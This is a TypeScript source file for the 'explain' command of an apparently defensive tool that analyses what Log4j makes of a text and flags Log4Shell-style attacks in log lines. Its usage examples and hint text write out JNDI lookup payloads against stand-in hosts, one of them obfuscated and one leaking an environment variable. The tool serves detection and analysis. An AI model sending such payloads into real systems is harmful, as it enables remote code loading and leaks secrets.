import { type Log4jVersion, problem, readLog4jVersion } from '../../core/index.ts'
import { type ExplainedPayload, explainLine } from '../../hunt/index.ts'
import {
  type EvaluationOptions,
  type Explanation,
  explain as explainText,
  readWorld,
  type World,
} from '../../lookup/index.ts'
import { readJsonFile, systemClock } from '../../node/index.ts'
import type { Command, ExitCode } from '../command.ts'
import { explanationJson, lineJson } from '../explain/in-json.ts'
import { inWords } from '../explain/in-words.ts'
import { explainLines } from '../explain/json-lines.ts'
import { lineInWords } from '../explain/line-in-words.ts'
import type { Io } from '../io.ts'
import { choiceOption, flagOption, optionInvalid, textOption } from '../options.ts'

export const explainNoText = problem('EXPLAIN_NO_TEXT', () => ({
  message: 'there is no text to explain',
  hint: "Give it in single quotes, as in fireline explain '${jndi:ldap://x.example/a}', or use --jsonl.",
}))

export const contextUnusable = problem('CONTEXT_UNUSABLE', (path: string, why: string) => ({
  message: `the context file ${path} cannot be used: ${why}`,
  hint: 'Write {"env": {…}, "sys": {…}, "ctx": {…}, "properties": {…}, "java": {…}, "event": {…}, "at": 0}, all optional.',
}))

/** Says what a release of Log4j makes of a text. */
export const explain: Command = {
  name: 'explain',
  summary: 'Say what Log4j makes of a text: each step, what it would contact, what it would leak.',
  examples: [
    ["fireline explain '${${::-j}ndi:ldap://x.example/a}'", 'exit code 1: it calls out, or loses the log event'],
    ["fireline explain --log4j 2.3 '${jndi:ldap://x/${env:USER}}'", 'as an older release does'],
    ["fireline explain --mode message '${${::-j}ndi:ldap://x.example/a}'", 'as %m of a pattern layout does'],
    ['fireline explain --line "$(sed -n 12p access.log)"', 'a whole line of a log, its layers taken off one by one'],
    [
      'fireline explain --jsonl --context context.json < strings.jsonl',
      'one JSON string a line, one answer a line; exit code 0',
    ],
  ],

  declare(command) {
    command
      .argument('[text]', 'the text, in single quotes')
      .option('--log4j <release>', 'the release that evaluates it', '2.14.1')
      .option('--mode <name>', 'once: one pass of the substitutor; message: what %m does', 'once')
      .option(
        '--context <file>',
        'the world it sees, as JSON: env, sys, ctx, properties, java, event, others, at, zone, locale',
      )
      .option('--line <text>', 'a whole line of a log, whatever it is wrapped in; - reads it from standard input')
      .option('--format <name>', 'text, or json', 'text')
      .option('--jsonl', 'read one JSON string a line from standard input, print one JSON object a line')
  },

  async run([text], options, io) {
    const release = textOption(options, 'log4j') ?? ''
    const version = versionOf(release)
    const mode = choiceOption(options, 'mode', ['once', 'message'])
    // A date without a time given is that of now, as in a message logged now.
    const world = { at: systemClock.now(), ...(await worldFrom(textOption(options, 'context'))) }
    if (flagOption(options, 'jsonl')) {
      await explainLines(io, { version, mode, world })
      return 0
    }
    const format = choiceOption(options, 'format', ['text', 'json'])
    const line = textOption(options, 'line')
    if (line !== null) {
      const written = line === '-' ? await lineFrom(io) : line
      return await tellLine(written, release, { version, mode: 'message', world }, format, io)
    }
    if (text === undefined) throw explainNoText()
    const explanation = explainText(text, { version, mode, world })
    await io.print(
      format === 'json'
        ? `${JSON.stringify(explanationJson(text, explanation))}\n`
        : inWords(text, release, explanation, io.colour),
    )
    return exitCodeOf(explanation)
  },
}

/** What a hunt finds in one line, and what Log4j makes of each payload in it: 1 if there is an attack. */
async function tellLine(
  line: string,
  release: string,
  options: EvaluationOptions,
  format: 'text' | 'json',
  io: Io,
): Promise<ExitCode> {
  const explanation = explainLine(line, systemClock.now())
  const { payloads, trace } = explanation
  const explained = payloads.map((payload) => whereSet(payload, explainText(payload.text, options)))
  if (format === 'json') await io.print(`${JSON.stringify(lineJson(line, explanation, explained))}\n`)
  else {
    const words = payloads.map(({ text }, i) => {
      const each = explained[i]
      return each === undefined ? '' : inWords(text, release, each, io.colour)
    })
    await io.print(lineInWords(explanation, words, io.colour))
  }
  return payloads.length > 0 || trace !== null ? 1 : 0
}

/** A value that is not known here is set where the line was logged: what is asked then, and where it fires, the hunt says. */
function whereSet({ reading: { contacts, firesOn } }: ExplainedPayload, explanation: Explanation): Explanation {
  const lookups = explanation.lookups.map((lookup) => ({
    ...lookup,
    target: contacts.find(({ name }) => name === lookup.name)?.target ?? lookup.target,
  }))
  return { ...explanation, lookups, firesOn }
}

/** What a command line can hold at most, and more than a record that is read. */
const mostLineBytes = 1 << 20

async function lineFrom({ input }: Io): Promise<string> {
  const chunks: Uint8Array[] = []
  let length = 0
  for await (const chunk of input) {
    chunks.push(chunk)
    length += chunk.length
    if (length > mostLineBytes) break
  }
  return Buffer.concat(chunks)
    .subarray(0, mostLineBytes)
    .toString('utf8')
    .replace(/\r?\n$/, '')
}

/** 1: something is contacted, or Log4j loses the event. 2: we did not follow it to its end. */
function exitCodeOf({ lookups, evaluation: { error, gaps } }: Explanation): ExitCode {
  if (lookups.some(({ target }) => target.is !== 'nothing')) return 1
  if (error !== null && error !== 'limit') return 1
  return gaps.length > 0 ? 2 : 0
}

function versionOf(release: string): Log4jVersion {
  const version = readLog4jVersion(release)
  if (version === null || version.numbers[0] < 2)
    throw optionInvalid('log4j', release, 'a release number, such as 2.14.1 or 2.0-beta9')
  return version
}

async function worldFrom(path: string | null): Promise<World> {
  if (path === null) return {}
  const read = readWorld(await readJsonFile(path))
  if ('flaw' in read) throw contextUnusable(path, read.flaw)
  return read.world
}
